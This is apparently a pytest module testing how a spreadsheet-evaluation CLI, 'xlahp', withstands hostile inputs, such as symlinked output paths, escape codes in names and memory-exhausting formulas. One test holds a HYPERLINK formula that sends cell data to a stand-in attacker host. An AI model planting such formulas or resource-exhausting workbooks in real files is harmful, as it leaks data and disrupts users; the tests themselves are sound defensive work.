"""Hostile and unlucky inputs to `report`, `new` and the CLI (issue 13; issue 9 items 5, 6).

Every case ends in a specific one-line message or a correct result; no input is
changed (bytes compared), no output lands on an input under any spelling of its
path, and nothing is left behind (no ``*.tmp``).  Bounds of time and memory are
measured in a subprocess, never timed inside a unit test.
"""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import numpy as np
import openpyxl
import pytest

from ..packages import rewritten
from xlahp.core import pairwise
from xlahp.sheet import readers
from xlahp.apps import portfolio
from xlahp.apps.cli import main
from xlahp.errors import XlahpError
from xlahp.apps.portfolio import SUMMARY_MARK, find_workbooks, is_summary, plan_jobs, report
from xlahp.templates import build
from xlahp.workbook.files import atomic_output, printable
from xlahp.workbook.workers import MAX_MEMORY, MAX_SECONDS, cores

pytestmark = pytest.mark.slow  # workbooks built and evaluated end to end

ROOT = Path(__file__).parents[2]
MiB = 2**20
#: A worker's bound in these tests: above an idle worker (~200 MiB of address
#: space), below what big_workbook needs (~570 MiB).
SMALL_MEMORY = 400 * MiB


# --- files ------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def alliance(tmp_path_factory) -> Path:
    """The paper's alliance workbook (evaluates to a full row)."""
    return build(tmp_path_factory.mktemp("example") / "a_sha.xlsx", example=True)


def copy(source: Path, target: Path) -> Path:
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(source, target)
    return target


def big_workbook(path: Path) -> Path:
    """One formula whose evaluation takes some 640 MiB (an array of 16 million)."""
    wb = openpyxl.Workbook()
    wb.active["A1"] = "=SUM(SEQUENCE(4000,4000))"
    wb.save(path)
    return path


def slow_workbook(path: Path) -> Path:
    """Five such formulas: some 15 s of evaluation."""
    wb = openpyxl.Workbook()
    for k in range(1, 6):
        wb.active.cell(k, 1, f"=SUM(SEQUENCE(4000,4000,{k}))")
    wb.save(path)
    return path


def digest(folder: Path) -> dict[str, str]:
    """Every file under *folder* → its SHA-256: inputs unchanged, nothing added."""
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file() and not p.is_symlink()}


def leftovers(folder: Path) -> list[str]:
    return [p.name for p in folder.rglob("*") if p.name.endswith(".tmp") or p.name.startswith(".")]


def xlahp(*args: str, cwd: Path | None = None, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "xlahp", *args], capture_output=True,
                          text=True, cwd=cwd, timeout=300, **kwargs)


@pytest.fixture
def folder(tmp_path, alliance) -> Path:
    """Two alliance workbooks in a folder."""
    copy(alliance, tmp_path / "in" / "a1.xlsx")
    copy(alliance, tmp_path / "in" / "a2.xlsx")
    return tmp_path / "in"


def refused(argv: list[str], capsys, monkeypatch, folder: Path) -> str:
    """Run the CLI, which must refuse with exit 2 before evaluating anything and
    leave the folder as it was; the one line it printed."""
    def no_evaluation(*_, **__):
        raise AssertionError("a workbook was evaluated before the output was checked")

    monkeypatch.setattr(portfolio, "report", no_evaluation)
    before = digest(folder)
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert digest(folder) == before and not leftovers(folder)
    assert err.count("\n") == 1 and err.startswith("xlahp: ")
    return err.strip()


# --- 1. report's output is checked first and never lands on an input ------------------

def test_output_equal_to_a_named_input_is_refused(folder, capsys, monkeypatch):
    a1 = str(folder / "a1.xlsx")
    err = refused(["report", a1, str(folder / "a2.xlsx"), "-o", a1], capsys, monkeypatch, folder)
    assert err == f"xlahp: {a1}: is an input of this report; choose another output"


@pytest.mark.parametrize("spelling", ["dotdot", "symlink", "hardlink", "folder symlink"])
def test_output_equal_to_a_scanned_workbook_under_any_spelling(folder, spelling, capsys,
                                                              monkeypatch, tmp_path):
    target = {"dotdot": folder / ".." / folder.name / "a2.xlsx",
              "symlink": tmp_path / "link.xlsx", "hardlink": tmp_path / "hard.xlsx",
              "folder symlink": tmp_path / "alias" / "a2.xlsx"}[spelling]
    if spelling == "symlink":
        target.symlink_to(folder / "a2.xlsx")
    elif spelling == "hardlink":
        os.link(folder / "a2.xlsx", target)
    elif spelling == "folder symlink":
        (tmp_path / "alias").symlink_to(folder)
    err = refused(["report", str(folder), "-o", str(target)], capsys, monkeypatch, folder)
    assert err.startswith(f"xlahp: {target}: is an input of this report (")
    assert err.endswith("a2.xlsx); choose another output")


def test_missing_folder_wrong_extension_and_csv_as_output(folder, capsys, monkeypatch,
                                                          tmp_path):
    args = ["report", str(folder), "-o"]
    assert refused([*args, str(tmp_path / "nowhere" / "s.xlsx")], capsys, monkeypatch,
                   folder) == (f"xlahp: {tmp_path / 'nowhere' / 's.xlsx'}: the folder "
                               f"{tmp_path / 'nowhere'} does not exist")
    for name in ("sum.txt", "a.csv", "s.xlsm", "noextension"):
        err = refused([*args, str(tmp_path / name), "--csv"], capsys, monkeypatch, folder)
        assert err == (f"xlahp: {tmp_path / name}: the summary is an Excel workbook; give -o "
                       "a name ending in .xlsx (with --csv the CSV is written beside it)")
    assert not (tmp_path / "sum.txt").exists() and not (tmp_path / "a.csv").exists()


def test_csv_beside_the_summary_must_not_be_an_input(folder, capsys, monkeypatch, tmp_path):
    (tmp_path / "out.csv").symlink_to(folder / "a1.xlsx")
    err = refused(["report", str(folder), "-o", str(tmp_path / "out.xlsx"), "--csv"],
                  capsys, monkeypatch, folder)
    assert err.startswith(f"xlahp: {tmp_path / 'out.csv'}: is an input of this report (")


def test_an_existing_file_that_is_no_summary_is_never_replaced(folder, capsys, monkeypatch,
                                                             tmp_path, alliance):
    other = copy(alliance, tmp_path / "elsewhere" / "keep.xlsx")  # not an input
    err = refused(["report", str(folder), "-o", str(other)], capsys, monkeypatch, folder)
    assert err == (f"xlahp: {other}: exists and is not a summary xlahp wrote; choose another "
                   "name (xlahp replaces only its own summaries)")
    assert other.read_bytes() == alliance.read_bytes()


def test_earlier_summaries_are_recognised_by_content_and_skipped(folder, capsys, tmp_path):
    out = folder / "summary.xlsx"
    assert main(["report", str(folder), "-o", str(out), "-j", "1"]) == 0
    assert is_summary(out) and not is_summary(folder / "a1.xlsx")
    out.rename(folder / "renamed.xlsx")  # whatever it is called now
    copy(folder / "a1.xlsx", folder / "a1.calc.xlsx")  # its evaluated copy: one alliance
    capsys.readouterr()
    assert main(["report", str(folder), "-o", str(out), "-j", "1"]) == 0  # a rerun
    said = capsys.readouterr()
    assert "2 workbooks: 2 evaluated, 0 incomplete, 0 could not be read" in said.out
    assert said.err.count("renamed.xlsx: a summary xlahp wrote, skipped") == 1
    assert said.err.count("a1.calc.xlsx: read in place of a1.xlsx") == 1  # the newer, once
    assert main(["report", str(folder), "-o", str(out), "-j", "1"]) == 0  # replaces its own
    names = [p.name for p in find_workbooks([folder])]
    assert names == ["a1.calc.xlsx", "a2.xlsx"]
    # named explicitly, a summary is read (and is no alliance workbook)
    frame = report([folder / "renamed.xlsx"], jobs=1)
    assert "not an xlahp alliance workbook" in frame["error"][0]
    assert SUMMARY_MARK == ("xlahp", "portfolio summary")


# --- 2. workers: capped at the cores, each file bounded in time and memory -------------

def test_jobs_are_at_least_one_and_at_most_the_cores(folder, capsys):
    for jobs in ("0", "-1"):
        assert main(["report", str(folder), "-j", jobs, "-o", str(folder / "s.xlsx")]) == 2
        assert capsys.readouterr().err == (
            f"xlahp: jobs (-j) is {jobs}; give 1 or more parallel workers (at most the "
            f"{cores()} cores of this machine are used)\n")
    assert not (folder / "s.xlsx").exists()
    assert plan_jobs(1000, 10_000) == cores() and plan_jobs(None, 1) == 1
    assert plan_jobs(3, 2) == min(2, cores())
    with pytest.raises(XlahpError, match="jobs"):
        plan_jobs(True, 3)


def test_bounds_are_named_constants():
    assert MAX_SECONDS == 120 and MAX_MEMORY == 2 * 2**30


RUN_BOUNDED = """
import resource, sys, time
from xlahp.apps.portfolio import report
start = time.monotonic()
frame = report(sys.argv[1:], jobs=2, seconds={seconds}, memory={memory})
took = time.monotonic() - start
children = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024
for name, status, error in zip(frame["file"], frame["状態 status"], frame["error"]):
    print(name.rsplit("/", 1)[-1], status, error if isinstance(error, str) else "-", sep="|")
print("took", took, "peak", children)
"""


def bounded(paths: list[Path], seconds: float, memory: int) -> tuple[dict, float, int]:
    """report() in a subprocess: each file's (status, error), the run's wall time and
    the largest resident size any worker reached."""
    code = RUN_BOUNDED.format(seconds=seconds, memory=memory)
    done = subprocess.run([sys.executable, "-c", code, *map(str, paths)], capture_output=True,
                          text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    *rows, last = done.stdout.strip().splitlines()
    _, took, _, peak = last.split()
    return ({r.split("|")[0]: tuple(r.split("|")[1:]) for r in rows}, float(took), int(peak))


def test_a_file_over_the_memory_bound_is_that_files_error(tmp_path, alliance):
    files = [copy(alliance, tmp_path / "a.xlsx"), big_workbook(tmp_path / "big.xlsx"),
             copy(alliance, tmp_path / "c.xlsx")]
    before = digest(tmp_path)
    rows, took, peak = bounded(files, MAX_SECONDS, SMALL_MEMORY)
    assert rows["a.xlsx"] == rows["c.xlsx"] == ("OK", "-")
    status, error = rows["big.xlsx"]
    assert status == "読込エラー not read"
    assert error.startswith("stopped: it needs more memory than the bound of 400 MiB per workbook")
    assert peak <= SMALL_MEMORY  # no worker ever held more
    assert digest(tmp_path) == before


def test_a_file_over_the_time_bound_is_that_files_error(tmp_path, alliance):
    files = [slow_workbook(tmp_path / "slow.xlsx"), copy(alliance, tmp_path / "b.xlsx")]
    rows, took, _ = bounded(files, 3, MAX_MEMORY)
    assert rows["b.xlsx"] == ("OK", "-")
    assert rows["slow.xlsx"] == ("読込エラー not read", "stopped after 3 s, the time bound per "
                                 "workbook: its formulas do not finish in time (nothing else "
                                 "is affected)")
    assert took < 3 + 10  # the bound, workers' start-up and the good file: not the 15 s


# --- 3. user text is text: no formula injection --------------------------------------

def cover(path: Path) -> dict[str, tuple]:
    book = openpyxl.load_workbook(path)

    def cell(name: str):
        (title, ref), = book.defined_names[name].destinations
        return book[title][ref.replace("$", "")]

    return {n: (cell(n).value, cell(n).data_type)
            for n in ("AllianceName", "Partner", "AllianceForm")}


def test_new_stores_formula_like_arguments_as_text(tmp_path):
    link = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert main(["new", "=1+1", "--partner", link, "--form", "業務提携 ",
                 "-o", str(tmp_path / "x.xlsx")]) == 0
    assert cover(tmp_path / "x.xlsx") == {"AllianceName": ("=1+1", "s"),
                                          "Partner": (link, "s"),
                                          "AllianceForm": ("業務提携", "s")}
    assert main(["new", "#N/A", "-o", str(tmp_path / "y.xlsx")]) == 0
    assert cover(tmp_path / "y.xlsx")["AllianceName"] == ("#N/A", "s")


def test_new_refuses_control_characters_and_unknown_forms(tmp_path, capsys):
    assert main(["new", "a\x1b[2Jb", "-o", str(tmp_path)]) == 2
    assert capsys.readouterr().err == ("xlahp: the alliance name holds the control character "
                                       "'\\x1b'; type it without line breaks, tabs or escape "
                                       "codes\n")
    assert main(["new", "a", "--form", "合併\x1b", "-o", str(tmp_path)]) == 2
    assert "\x1b" not in capsys.readouterr().err
    assert main(["new", "全角", "--form", "資本提携\u3000", "-o", str(tmp_path)]) == 0
    assert list(tmp_path.iterdir()) == [tmp_path / "全角.xlsx"]


def test_new_from_carries_text_as_text_and_the_target_year(tmp_path, alliance):
    source = copy(alliance, tmp_path / "old.xlsx")
    book = openpyxl.load_workbook(source)
    statement = book["財務諸表"]
    label_row = next(r for r in statement.iter_rows() if any(c.value == "決算期" for c in r))
    year = label_row[0].row
    first = next(r for r in statement.iter_rows() if any(c.value == "売上高" for c in r))[0].row
    statement.cell(year, 6).value = "2015年 中期計画"
    statement.cell(first, 6).value = "=1+1"          # a target typed as text …
    statement.cell(first, 6).data_type = "s"
    statement.cell(first + 1, 6).value = "=2*3"      # … and one as a formula
    book.save(source)
    before = source.read_bytes()
    assert main(["new", "後継", "--from", str(source), "-o", str(tmp_path / "new.xlsx")]) == 0
    assert source.read_bytes() == before
    carried = openpyxl.load_workbook(tmp_path / "new.xlsx")["財務諸表"]
    assert carried.cell(year, 6).value == "2015年 中期計画"
    assert (carried.cell(first, 6).value, carried.cell(first, 6).data_type) == ("=1+1", "s")
    assert (carried.cell(first + 1, 6).value, carried.cell(first + 1, 6).data_type) == ("=2*3", "f")
    assert carried.cell(year, 4).value is None  # the current year's label is not carried


def test_new_never_writes_over_its_source(tmp_path, alliance, capsys):
    source = copy(alliance, tmp_path / "old.xlsx")
    link = tmp_path / "same.xlsx"
    link.symlink_to(source)
    assert main(["new", "x", "--from", str(source), "-o", str(link), "--force"]) == 2
    assert capsys.readouterr().err == (f"xlahp: {link}: is the workbook --from reads; "
                                       "choose another output\n")
    assert source.read_bytes() == alliance.read_bytes()


def test_new_from_a_name_over_the_whole_grid_is_refused_quickly(tmp_path, alliance, capsys):
    source = copy(alliance, tmp_path / "old.xlsx")
    book = openpyxl.load_workbook(source)
    book.defined_names["Input_Selected"].attr_text = "'指標'!$A$1:$XFD$1048576"
    book.save(source)
    assert main(["new", "x", "--from", str(source), "-o", str(tmp_path / "n.xlsx")]) == 2
    assert capsys.readouterr().err == (f"xlahp: {source}: made from another version of the "
                                       "template (Input_Selected differ); copy its answers by "
                                       "hand\n")


# --- 4. a dead worker loses only its file; workers die with the parent -----------------

def test_a_dead_worker_loses_only_its_own_file(tmp_path, alliance):
    files = [copy(alliance, tmp_path / "1.xlsx"), big_workbook(tmp_path / "2.xlsx"),
             copy(alliance, tmp_path / "3.xlsx"), copy(alliance, tmp_path / "4.xlsx")]
    frame = report(files, jobs=1, memory=SMALL_MEMORY)  # one worker: the later files follow it
    status = {Path(f).name: s for f, s in zip(frame["file"], frame["状態 status"])}
    assert status == {"1.xlsx": "OK", "2.xlsx": "読込エラー not read", "3.xlsx": "OK",
                      "4.xlsx": "OK"}
    index = {Path(f).name: v for f, v in zip(frame["file"], frame["価値指数 value index"])}
    assert [round(index[n], 4) for n in ("3.xlsx", "4.xlsx")] == [0.6971, 0.6971]


def children(pid: int) -> set[int]:
    found = set()
    for task in Path(f"/proc/{pid}/task").iterdir():
        found |= {int(c) for c in (task / "children").read_text().split()}
    return found


def alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except FileNotFoundError:
        return False
    return state not in ("Z", "X")


#: The tests that watch worker processes read /proc (a mark on a helper has no effect).
NEEDS_PROC = pytest.mark.skipif(not Path("/proc/self/task").exists(), reason="needs Linux /proc")


def stop(parent: subprocess.Popen, how: int, workers: list[int]) -> tuple[str, str]:
    """Signal *parent*, and check that its *workers* are gone within 10 s."""
    parent.send_signal(how)
    out, err = parent.communicate(timeout=30)
    deadline = time.monotonic() + 10
    while any(alive(w) for w in workers) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not any(alive(w) for w in workers)
    return out, err


@NEEDS_PROC
@pytest.mark.parametrize("how", [signal.SIGKILL, signal.SIGTERM])
def test_stopping_the_parent_stops_its_workers(tmp_path, how):
    for k in range(2):
        slow_workbook(tmp_path / f"slow{k}.xlsx")
    before = digest(tmp_path)
    parent = subprocess.Popen([sys.executable, "-m", "xlahp", "report", str(tmp_path), "-o",
                               str(tmp_path / "s.xlsx"), "-j", "2"], stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 60
    while len(workers := children(parent.pid)) < 2 and time.monotonic() < deadline:
        time.sleep(0.1)
    assert len(workers) == 2
    time.sleep(1)  # busy on the files now
    out, err = stop(parent, how, workers)
    if how == signal.SIGTERM:
        assert parent.returncode == 128 + signal.SIGTERM
        assert err == "xlahp: stopped (SIGTERM); nothing partial was left behind\n"
    assert digest(tmp_path) == before and not leftovers(tmp_path)


def test_sigterm_while_writing_leaves_no_partial_file(folder, tmp_path, monkeypatch):
    import xlahp.apps.summary

    def terminated_while_writing(frame, target):
        with atomic_output(target) as temporary:
            temporary.write_bytes(b"half a summary")
            os.kill(os.getpid(), signal.SIGTERM)

    monkeypatch.setattr(xlahp.apps.summary, "write_summary", terminated_while_writing)
    with pytest.raises(SystemExit) as stopped:
        main(["report", str(folder), "-o", str(tmp_path / "s.xlsx"), "-j", "1"])
    assert stopped.value.code == 128 + signal.SIGTERM
    assert not (tmp_path / "s.xlsx").exists() and not leftovers(tmp_path)
    assert signal.getsignal(signal.SIGTERM) is not None  # the CLI put the old handler back


# --- 5. odd file names, a full disk ----------------------------------------------------------

@pytest.mark.skipif(sys.platform != "linux", reason="names that are not UTF-8: Linux")
def test_a_file_name_that_is_not_utf8_is_listed_readably(tmp_path, alliance):
    folder = tmp_path / "in"
    folder.mkdir()
    shutil.copyfile(alliance, os.fsencode(folder) + b"/caf\xe9.xlsx")
    copy(alliance, folder / "good.xlsx")
    (folder / "\x1b[31mred.xlsx").write_bytes(b"PK\x03\x04 not a zip")
    before = digest(folder)
    done = xlahp("report", str(folder), "-o", str(tmp_path / "s.xlsx"), "--csv")
    assert done.returncode == 1
    assert "3 workbooks: " in done.stdout  # the batch went on past both names
    assert "\x1b" not in done.stderr and "\\x1b[31mred.xlsx: not a readable zip" in done.stderr
    rows = (tmp_path / "s.csv").read_text(encoding="utf-8-sig").splitlines()
    assert any(r.startswith(f"{folder}/good.xlsx,A社") for r in rows)
    assert any(r.startswith(f"{folder}/caf\\xe9.xlsx,A社") for r in rows)  # read, shown: \xe9
    book = openpyxl.load_workbook(tmp_path / "s.xlsx")
    shown = [str(c.value) for sheet in book for row in sheet.iter_rows() for c in row]
    assert any("caf\\xe9.xlsx" in v for v in shown) and any("\\x1b[31mred" in v for v in shown)
    assert digest(folder) == before


def test_a_full_disk_names_the_output(folder, tmp_path):
    """RLIMIT_FSIZE stands in for a full disk: writes past it fail (EFBIG)."""
    code = textwrap.dedent(f"""
        import resource, signal, sys
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))
        from xlahp.apps.cli import main
        sys.exit(main(["report", {str(folder)!r}, "-o", {str(tmp_path / "s.xlsx")!r}]))
    """)
    before = digest(folder)
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          timeout=300)
    assert done.returncode == 2
    # (the folder holds copies of one workbook: their shared alliance ID is noted first)
    assert done.stderr.endswith(f"xlahp: {tmp_path / 's.xlsx'}: could not be written (File too "
                                "large)\n")
    assert not (tmp_path / "s.xlsx").exists() and not leftovers(tmp_path)
    assert digest(folder) == before


def test_an_unwritable_place_names_the_output_not_a_temporary_file(tmp_path, monkeypatch):
    def no_room(*_, **__):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("tempfile.mkstemp", no_room)
    with pytest.raises(XlahpError) as error:
        with atomic_output(tmp_path / "out.xlsx"):
            pass
    assert str(error.value) == (f"{tmp_path / 'out.xlsx'}: cannot be written "
                                "(No space left on device)")


def test_names_are_shown_escaped():
    assert printable("a\x1b[2J\u202eb\tc") == "a\\x1b[2J\\u202eb\\tc"
    assert printable("提携\u3000B社 (2).xlsx") == "提携\u3000B社 (2).xlsx"
    assert printable(os.fsdecode(b"\xff\xfe.xlsx")) == "\\xff\\xfe.xlsx"


# --- 6. intensities ----------------------------------------------------------------------------

def answers(intensity) -> list[list]:
    return [["成長力", "収益力", "成長力", intensity], ["収益力", "安全性", "収益力", 3],
            ["成長力", "安全性", "成長力", 5]]


def test_judgments_beyond_the_scale_are_flagged_absurd_ones_refused():
    from xlahp.udfs import AHP_MATRIX

    m = readers.read_answers(answers(12))
    assert pairwise.out_of_scale(m) == [(0, 1, 12.0)]
    assert pairwise.out_of_scale(readers.read_answers(answers("9 極めて重要"))) == []
    assert pairwise.out_of_scale(readers.read_matrix([[1, 0.11], [9, 1]])) == []
    for absurd in (1e7, "1e308"):
        with pytest.raises(XlahpError, match=r"answers row 1 intensity is 1e\+(07|308), beyond "
                           r"the largest judgment read \(1e\+06\); the scale is 1–9"):
            readers.read_answers(answers(absurd))
    cells = np.array(AHP_MATRIX(answers(1e6)), dtype=float)
    assert np.isfinite(cells).all() and cells.max() == 1e6


# --- 7. the Python API ---------------------------------------------------------------------------

def test_report_from_a_script_without_a_main_guard_under_spawn(tmp_path, alliance):
    copy(alliance, tmp_path / "a.xlsx")
    copy(alliance, tmp_path / "b.xlsx")
    (tmp_path / "script.py").write_text(textwrap.dedent("""
        import multiprocessing
        multiprocessing.set_start_method("spawn")
        import xlahp
        frame = xlahp.report(".", jobs=2)
        print(frame.sort_values("価値指数 value index")["価値指数 value index"].round(4).tolist())
        print(sorted(set(frame["状態 status"])), str(frame["C.R."].dtype))
    """), encoding="utf-8")
    done = subprocess.run([sys.executable, "script.py"], cwd=tmp_path, capture_output=True,
                          text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == ["[0.6971, 0.6971]", "['OK'] float64"]
    # nothing but the note that the two copies share one alliance ID (and its source line)
    noise = [line for line in done.stderr.splitlines()
             if "share the alliance ID" not in line and "xlahp.report(" not in line]
    assert noise == []


@pytest.mark.parametrize("interpreter", ["/nonexistent/python", "/bin/false"])
def test_without_worker_processes_report_falls_back_to_this_process(tmp_path, alliance,
                                                                   monkeypatch, interpreter):
    """An embedded interpreter whose sys.executable cannot run workers: one process,
    with a warning, the same results."""
    files = [copy(alliance, tmp_path / "a.xlsx"), copy(alliance, tmp_path / "b.xlsx")]
    monkeypatch.setattr(sys, "executable", interpreter)
    with pytest.warns(RuntimeWarning, match="worker processes could not be started; "
                                            "evaluating in this process"):
        frame = report(files, jobs=2)
    assert frame["価値指数 value index"].round(4).tolist() == [0.6971, 0.6971]


# --- 8. smaller points ------------------------------------------------------------------

@pytest.mark.parametrize("suffix,what", [(".xls", "an old-format Excel workbook (.xls)"),
                                         (".xlsb", "a binary Excel workbook (.xlsb)"),
                                         (".ods", "an OpenDocument spreadsheet (.ods)")])
def test_other_spreadsheet_formats_are_told_to_save_as_xlsx(tmp_path, suffix, what, capsys):
    book = tmp_path / f"old{suffix}"
    book.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500))
    assert main(["calc", str(book)]) == 2
    assert capsys.readouterr().err == (f"xlahp: {book}: is {what}; open it in Excel and save "
                                       "it as .xlsx (Excel ブック), then evaluate that\n")
    assert [p.name for p in tmp_path.iterdir()] == [book.name]
    assert find_workbooks([tmp_path]) == [book]  # a folder scan lists it, not ignores it


# --- bounds checked before any parser loads the file (xlahp.workbook.safety) ------------------

def grid_workbook(path: Path, rows: int, columns: int) -> Path:
    wb = openpyxl.Workbook()
    for r in range(1, rows + 1):
        for c in range(1, columns + 1):
            wb.active.cell(r, c, r * c)
    wb.save(path)
    return path


def test_a_million_empty_rows_are_refused_before_loading(tmp_path, capsys):
    base = grid_workbook(tmp_path / "base.xlsx", 1, 2)
    rows = "".join(f'<row r="{r}" ht="20" customHeight="1"/>' for r in range(2, 1_000_001))
    book = rewritten(base, tmp_path / "rows.xlsx", {r"xl/worksheets/sheet1\.xml": lambda d: d.replace(
        "</row></sheetData>", "</row>" + rows + "</sheetData>")})
    before = book.read_bytes()
    assert main(["calc", str(book)]) == 2
    assert capsys.readouterr().err == (
        f"xlahp: {book}: sheet 'Sheet' holds 999,999 empty row records (rows with a height "
        "or format, each loaded like a cell); xlahp evaluates workbooks of at most "
        "1,000,000 cells\n")
    assert book.read_bytes() == before and sorted(p.name for p in tmp_path.iterdir()) == [
        "base.xlsx", "rows.xlsx"]


def test_one_sheet_listed_many_times_counts_as_often_as_it_is_loaded(tmp_path, capsys):
    base = grid_workbook(tmp_path / "base.xlsx", 100, 100)  # 10,000 cells
    sheets = "".join(f'<sheet name="S{k}" sheetId="{k + 1}" r:id="rId{k + 10}"/>'
                     for k in range(200))
    links = "".join(f'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/'
                    f'2006/relationships/worksheet" Target="/xl/worksheets/sheet1.xml" '
                    f'Id="rId{k + 10}"/>' for k in range(200))
    book = rewritten(base, tmp_path / "many.xlsx", {
        r"xl/workbook\.xml": lambda d: re.sub(
            r"<sheets>.*</sheets>", '<sheets xmlns:r="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships">' + sheets + "</sheets>", d),
        r"xl/_rels/workbook\.xml\.rels": lambda d: d.replace("</Relationships>",
                                                            links + "</Relationships>")})
    assert main(["calc", str(book)]) == 2
    assert capsys.readouterr().err == (
        f"xlahp: {book}: sheet 'S100' spans A1:A1 (1 cells, 1,000,001 cells with the sheets "
        "before it); xlahp evaluates workbooks of at most 1,000,000 cells\n")


# --- small files that used to exhaust the engine, and legitimate books it stumbled on --------

MEASURED = textwrap.dedent("""
    import resource, subprocess, sys, time
    start = time.monotonic()
    done = subprocess.run(sys.argv[1:], capture_output=True, text=True)
    took = time.monotonic() - start
    peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024
    sys.stdout.write(done.stdout)
    sys.stderr.write(done.stderr)
    print(f"@@ {done.returncode} {took:.2f} {peak}")
""")


def measured_calc(source: Path, target: Path) -> tuple[int, str, float, int]:
    """`xlahp calc` in a fresh process: its exit status, what it printed, its wall
    time and the peak resident memory of it and its worker."""
    done = subprocess.run([sys.executable, "-c", MEASURED, sys.executable, "-m", "xlahp",
                           "calc", str(source), "-o", str(target)],
                          capture_output=True, text=True, timeout=600)
    *_, last = done.stdout.strip().splitlines()
    _, code, took, peak = last.split()
    return int(code), done.stdout + done.stderr, float(took), int(peak)


def hostile_book(path: Path, cells: dict[str, str], names: dict[str, str] = {}) -> Path:
    from openpyxl.workbook.defined_name import DefinedName

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "S"
    ws["B1"] = 21
    for ref, value in cells.items():
        ws[ref] = value
        if value == "#N/A":
            ws[ref].data_type = "e"  # a typed constant error, as Excel stores it
    for name, target in names.items():
        wb.defined_names[name] = DefinedName(name, attr_text=target)
    wb.save(path)
    return path


def deeper_than_256(path: Path) -> Path:
    """An extension list nested 300 deep, as Excel writes for some charts and formats."""
    deep = "<x:a xmlns:x='urn:x'>" * 300 + "</x:a>" * 300
    return rewritten(path, path.with_name("deep-" + path.name), {
        r"xl/worksheets/sheet1\.xml": lambda text: text.replace(
            "</worksheet>", f'<extLst><ext uri="{{X}}">{deep}</ext></extLst></worksheet>')})


@pytest.mark.parametrize("case,cells,names,code,said", [
    ("whole-grid name", {"A2": "=COUNTA(Whole)"}, {"Whole": "S!$B$1:$XFD$1048576"}, 0,
     "1 formula cells computed"),
    ("text of a gigabyte", {"A2": '=REPT(REPT("x",32767),32767)'}, {}, 0,
     "1 formula cells computed (1 show an error)"),
    ("outer product", {"A2": "=SUM(MMULT(SEQUENCE(20000),TRANSPOSE(SEQUENCE(20000))))"}, {}, 0,
     "(1 show an error)"),
    ("circular reference", {"D6": "5", "D7": "=D7*1.1"}, {}, 0,
     "S!D7: cannot be computed: a circular reference"),
    ("typed #N/A constant", {"A1": "#N/A", "A2": "=ISNA(A1)"}, {}, 0, "1 formula cells computed"),
    ("name to a name", {"A2": "=Alias*2"}, {"Base": "S!$B$1", "Alias": "Base"}, 0,
     "1 formula cells computed (0 show an error)"),
])
def test_small_hostile_files_end_quickly_with_a_message(tmp_path, case, cells, names, code, said):
    source = hostile_book(tmp_path / "h.xlsx", cells, names)
    before = source.read_bytes()
    status, printed, took, peak = measured_calc(source, tmp_path / "out.xlsx")
    assert status == code and said in printed, printed
    assert "internal error" not in printed and "Traceback" not in printed
    assert source.read_bytes() == before and not leftovers(tmp_path)
    assert took < MAX_SECONDS and peak < 1024 * MiB  # issue 13 saw 5.4–7.5 GB and no end


def test_values_of_the_once_fatal_books(tmp_path):
    source = hostile_book(tmp_path / "h.xlsx", {
        "A1": "#N/A", "A2": "=ISNA(A1)", "A3": "=Alias*2", "A4": "=COUNTA(Whole)",
        "A5": '=LEN(REPT("x",40000))'}, {"Base": "S!$B$1", "Alias": "Base",
                                          "Whole": "S!$B$1:$XFD$1048576"})
    source = deeper_than_256(source)
    assert main(["calc", str(source), "-o", str(tmp_path / "out.xlsx")]) == 0
    values = openpyxl.load_workbook(tmp_path / "out.xlsx", data_only=True)["S"]
    assert [values[c].value for c in ("A2", "A3", "A4", "A5")] == [True, 42, 1, "#VALUE!"]


def test_a_circular_reference_is_not_reported_ok(tmp_path, alliance):
    book = openpyxl.load_workbook(alliance)
    book["表紙"]["Z99"] = "=Z99*1.1"
    book.save(tmp_path / "loop.xlsx")
    frame = report([tmp_path / "loop.xlsx"], jobs=1)
    (status,), (reason,) = frame["状態 status"], frame["理由 reason"]
    assert status != "OK" and "circular reference" in reason


@NEEDS_PROC
@pytest.mark.parametrize("how", [signal.SIGKILL, signal.SIGTERM])
def test_stopping_calc_stops_its_worker_and_leaves_nothing(tmp_path, how):
    source = slow_workbook(tmp_path / "slow.xlsx")
    before = digest(tmp_path)
    parent = subprocess.Popen([sys.executable, "-m", "xlahp", "calc", str(source)],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 60
    while not (workers := children(parent.pid)) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert workers
    time.sleep(1)  # evaluating now
    stop(parent, how, workers)
    if how == signal.SIGTERM:
        assert parent.returncode == 128 + signal.SIGTERM
    assert digest(tmp_path) == before and not leftovers(tmp_path)  # no copy, no *.tmp
